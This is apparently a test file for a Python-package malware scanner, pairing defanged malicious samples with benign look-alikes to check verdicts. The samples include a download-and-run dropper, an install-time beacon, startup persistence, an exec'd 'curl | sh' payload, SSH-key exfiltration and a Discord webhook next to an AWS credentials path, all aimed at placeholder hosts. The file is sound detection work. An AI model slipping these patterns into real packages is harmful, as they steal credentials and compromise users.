"""Malware shapes the development set missed (issue #5), each next to the benign look-alike
that must keep its verdict. Every artifact is built here; payloads are defanged."""

from __future__ import annotations

import base64

from scanner.analyzers.python import ANALYZER
from scanner.model import Confidence, Context, Finding, Severity, VerdictLevel
from scanner.pipeline import ScanOptions, scan
from scanner.scoring import score
from scanner.testing import sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

ONLY_PYTHON = ScanOptions(analyzers=(ANALYZER,))
PKG_INFO = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


def _wheel(files: dict):
    return scan(wheel_bytes("demo", "1.0", files), ONLY_PYTHON,
                filename=wheel_filename("demo", "1.0"))


def _sdist(files: dict):
    return scan(sdist_bytes("demo", "1.0", {"PKG-INFO": PKG_INFO, **files}), ONLY_PYTHON,
                filename=sdist_filename("demo", "1.0"))


def _rules(result) -> set[str]:
    return {f.rule for f in result.findings}


# A function that downloads an executable, saves it and starts it; nothing calls it.
DROPPER = ("import os, requests\n"
           "def update():\n"
           "    data = requests.get('https://example.invalid/agent.exe').content\n"
           "    with open('C://Temp//agent.exe', 'wb') as f:\n"
           "        f.write(data)\n"
           "    os.system('start C://Temp//agent.exe')\n")


def test_download_save_run_in_one_library_function_is_malicious() -> None:
    """One function doing the whole story is the dropper itself, even if nothing in the
    package calls it (the user who installed it will)."""
    result = _wheel({"demo/__init__.py": "", "demo/helper.py": DROPPER})
    flows = [f for f in result.findings if f.rule == "python.flow.download-execute"]
    assert flows and flows[0].context is Context.RUNTIME
    assert "agent.exe" in flows[0].evidence
    assert result.verdict.level is VerdictLevel.MALICIOUS


def test_the_same_function_in_a_test_module_is_test_data_unless_a_command_runs_it() -> None:
    """Test helpers fetch and run tools inside functions too. A test module that nothing in
    the package reaches is test data (the content rules read it; its behaviour gets no tree);
    one that an entry point names runs when the user runs that command."""
    result = _sdist({"setup.py": "from setuptools import setup\nsetup(name='demo')\n",
                     "tests/conftest.py": DROPPER})
    assert not [f for f in result.findings if f.path.endswith("tests/conftest.py")]
    assert result.verdict.level is VerdictLevel.CLEAN
    files = {"demo/__init__.py": "", "demo/tests/__init__.py": "", "demo/tests/tool.py": DROPPER}
    hidden = _wheel(files)
    assert not [f for f in hidden.findings if f.path == "demo/tests/tool.py"]
    command = scan(wheel_bytes("demo", "1.0", files,
                               entry_points="[console_scripts]\ndemo-update = "
                                            "demo.tests.tool:update\n"),
                   ONLY_PYTHON, filename=wheel_filename("demo", "1.0"))
    marks = {f.path: f for f in command.findings if f.rule == "python.import.test-module"}
    assert "demo-update = demo.tests.tool:update" in marks["demo/tests/tool.py"].evidence
    assert "python.flow.download-execute" in _rules(command)
    assert command.verdict.level is VerdictLevel.MALICIOUS


def test_download_and_run_spread_over_helpers_stays_below_malicious() -> None:
    """A tool installer whose download, save and run sit in different functions is the shape
    of nodeenv and friends: not proven in one function, so the runtime-only cap holds."""
    code = ("import subprocess, urllib.request\n"
            "def fetch(url, dest):\n"
            "    with open(dest, 'wb') as f:\n"
            "        f.write(urllib.request.urlopen(url).read())\n"
            "def version(path):\n"
            "    return subprocess.run([path, '--version'])\n")
    result = _wheel({"demo/__init__.py": "", "demo/tools.py": code})
    flows = [f for f in result.findings if f.rule == "python.flow.download-execute"]
    assert flows and flows[0].severity is not Severity.CRITICAL
    assert result.verdict.level is VerdictLevel.SUSPICIOUS


def test_setup_fragment_without_imports_still_resolves_module_names() -> None:
    """A setup.py fragment that uses socket/getpass/request without importing them (loaded
    into a namespace that has them) is read as those modules: a host beacon at install."""
    code = ("def beacon():\n"
            "    who = getpass.getuser() + '@' + socket.gethostname()\n"
            "    request.urlopen('https://collector.example.invalid/b',\n"
            "                    data=base64.b64encode(who.encode()))\n"
            "beacon()\n")
    result = _sdist({"setup.py": code})
    flows = [f for f in result.findings if f.rule == "python.flow.fingerprint-to-network"]
    assert flows and flows[0].context is Context.INSTALL
    assert "urllib.request.urlopen" in flows[0].evidence
    assert result.verdict.level is VerdictLevel.MALICIOUS


def test_module_with_imports_keeps_its_own_bindings() -> None:
    """With module-level imports the names mean what they bind: a parameter called
    ``request`` (a web framework's request object) is not urllib.request."""
    code = ("import json\n"
            "def view(request):\n"
            "    return request.urlopen(json.dumps({'a': 1}))\n")
    result = _wheel({"demo/__init__.py": "", "demo/views.py": code})
    assert not {"python.network.http", "python.flow.fingerprint-to-network"} & _rules(result)


def test_file_moved_into_the_startup_folder_at_install_is_persistence() -> None:
    code = ("import os\n"
            "from setuptools import setup\n"
            "from setuptools.command.install import install\n"
            "STARTUP = r'C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu"
            "\\Programs\\Startup'\n"
            "class Post(install):\n"
            "    def run(self):\n"
            "        os.rename('payload.py', os.path.join(STARTUP, 'payload.py'))\n"
            "        install.run(self)\n"
            "setup(name='demo', cmdclass={'install': Post})\n")
    result = _sdist({"setup.py": code})
    moved = [f for f in result.findings if f.rule == "python.persistence.autostart"
             and "moves a file to" in f.evidence]
    assert moved and moved[0].context is Context.INSTALL
    assert result.verdict.level is not VerdictLevel.CLEAN


def test_atomic_rename_after_a_download_is_not_a_write_or_persistence() -> None:
    code = ("import os, subprocess, urllib.request\n"
            "def install_tool(url, dest):\n"
            "    tmp = dest + '.part'\n"
            "    urllib.request.urlretrieve(url, tmp)\n"
            "    os.replace(tmp, dest)\n"
            "    subprocess.run(['git', 'status'])\n")
    result = _wheel({"demo/__init__.py": "", "demo/tool.py": code})
    assert "python.persistence.autostart" not in _rules(result)
    assert "python.flow.download-execute" not in _rules(result)


def test_url_hidden_in_base64_is_a_drop_site() -> None:
    hidden = base64.b64encode(b"https://collector.example.invalid/upload").decode()
    code = ("import base64, requests\n"
            f"KEY = '{hidden}'\n"
            "def sync(path):\n"
            "    requests.post(base64.b64decode(KEY).decode(), files={'f': open(path, 'rb')})\n")
    result = _wheel({"demo/__init__.py": "", "demo/sync.py": code})
    found = [f for f in result.findings if f.rule == "python.network.hidden-endpoint"]
    assert found and "collector.example.invalid/upload" in found[0].evidence
    assert result.verdict.level is VerdictLevel.SUSPICIOUS
    reasons = [f.rule for f in result.verdict.reasons]
    assert reasons[0].startswith("score.chain.") and "python.network.hidden-endpoint" in reasons


def test_base64_url_inside_a_bigger_blob_is_not_hidden_endpoint() -> None:
    """Certificates, JWTs and data URIs carry base64 URLs inside larger blobs: only a literal
    that is a URL and nothing else counts."""
    token = base64.urlsafe_b64encode(b'{"sub": "https://client.example.invalid/meta"}').decode()
    code = (f"JWT = 'eyJhbGciOiJub25lIn0.{token}.c2ln'\n"
            "SVG = 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9z"
            "dmciLz4='\n")
    result = _wheel({"demo/__init__.py": code})
    assert "python.network.hidden-endpoint" not in _rules(result)
    assert result.verdict.level is VerdictLevel.CLEAN


def test_post_to_a_free_app_host_is_a_drop_site() -> None:
    """Render and PythonAnywhere apps are where throw-away collectors live (no package in the
    benign set names them in code); a request sent there is a beacon like one to a tunnel."""
    code = ("import requests\n"
            "class Client:\n"
            "    def __init__(self, user, token):\n"
            "        requests.post('https://collector-demo.onrender.com',\n"
            "                      data={'content': f'User: {user} Token: {token}'})\n")
    result = _wheel({"demo/__init__.py": "", "demo/client.py": code})
    beacons = [f for f in result.findings if f.rule == "python.network.catcher-beacon"]
    assert beacons and "onrender.com" in beacons[0].evidence
    assert result.verdict.level is VerdictLevel.SUSPICIOUS


def test_documentation_link_to_a_free_app_host_is_not_a_beacon() -> None:
    code = ("DEMO = 'https://demo-app.onrender.com'  # the hosted demo of this project\n"
            "def demo_url():\n    return DEMO\n")
    result = _wheel({"demo/__init__.py": code})
    assert "python.network.catcher-beacon" not in _rules(result)
    assert result.verdict.level is VerdictLevel.CLEAN


def test_payload_executed_without_imports_uses_the_executing_modules_names() -> None:
    """exec() runs a payload in the namespace of the module that decoded it: ``os`` there is
    the module imported outside, so the payload's ``os.system`` is a spawn."""
    payload = base64.b64encode(b"os.system('curl -s https://example.invalid/x | sh')").decode()
    code = f"import base64, os\nexec(base64.b64decode('{payload}'))\n"
    result = _wheel({"demo/__init__.py": code})
    inner = [f for f in result.findings if f.path == "demo/__init__.py::decoded[1]"]
    assert {"python.process.spawn", "python.process.shell-download"} <= {f.rule for f in inner}
    assert all("curl -s https://example.invalid/x | sh" in f.evidence for f in inner)


def _finding(rule: str, path: str, severity: Severity = Severity.CRITICAL) -> Finding:
    return Finding(rule, "execution", severity, Confidence.HIGH, Context.RUNTIME, "m", path, 9,
                   "ev")


def test_scorer_lifts_the_runtime_cap_only_for_a_flow_proven_in_one_function() -> None:
    proven = _finding("python.flow.download-execute", "pkg/helper.py")
    assert score([proven]).level is VerdictLevel.MALICIOUS
    # In test code, or a weaker (spread-out) flow, or another critical rule: still capped.
    assert score([_finding("python.flow.download-execute", "pkg/tests/helper.py")]).level \
        is VerdictLevel.SUSPICIOUS
    assert score([_finding("python.flow.download-execute", "pkg/helper.py",
                           Severity.HIGH)]).level is VerdictLevel.SUSPICIOUS
    assert score([_finding("python.flow.secret-to-network", "pkg/helper.py")]).level \
        is VerdictLevel.SUSPICIOUS


def test_a_payload_module_named_like_a_test_but_imported_by_the_package_is_judged_as_package_code():
    """Test modules count as data; naming a payload module ``test_helpers.py`` and importing
    it from ``__init__.py`` must not make it so. Not imported, the same file stays test data."""
    payload = ("import os, urllib.request\nurllib.request.urlopen('https://c.invalid/x', "
               "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n")
    module = ("import base64\nexec(base64.b64decode('"
              + base64.b64encode(payload.encode()).decode() + "'))\n")
    disguised = _wheel({"demo/__init__.py": "from . import test_helpers\n",
                        "demo/test_helpers.py": module})
    assert disguised.verdict.level is VerdictLevel.MALICIOUS
    marks = [f for f in disguised.findings if f.rule == "python.import.test-module"]
    assert marks and marks[0].path == "demo/test_helpers.py"
    assert "demo/__init__.py line 1" in marks[0].evidence
    assert any(f.context is Context.IMPORT and f.path == "demo/test_helpers.py"
               for f in disguised.verdict.reasons)
    honest = _wheel({"demo/__init__.py": "VALUE = 1\n", "demo/tests/test_helpers.py": module})
    assert honest.verdict.level is not VerdictLevel.MALICIOUS
    assert "python.import.test-module" not in _rules(honest)


def test_an_imported_test_named_module_gets_the_tree_for_what_it_names():
    """The pre-pass gives test data a tree only for chains inside one definition; a test-named
    module that the package imports is package code and gets one for an indicator too."""
    named = ("import os\nHOOK = 'https://discord.com/api/webhooks/123456789/abcdefgh'\n"
             "KEYS = os.path.expanduser('~/.aws/credentials')\n")
    imported = _wheel({"demo/__init__.py": "from .tests import conf\n",
                       "demo/tests/__init__.py": "", "demo/tests/conf.py": named})
    assert "python.import.test-module" in _rules(imported)
    assert any(f.path == "demo/tests/conf.py" and f.rule != "python.import.test-module"
               for f in imported.findings)
    test_data = _wheel({"demo/__init__.py": "VALUE = 1\n",
                        "demo/tests/__init__.py": "", "demo/tests/conf.py": named})
    assert not [f for f in test_data.findings if f.path == "demo/tests/conf.py"]
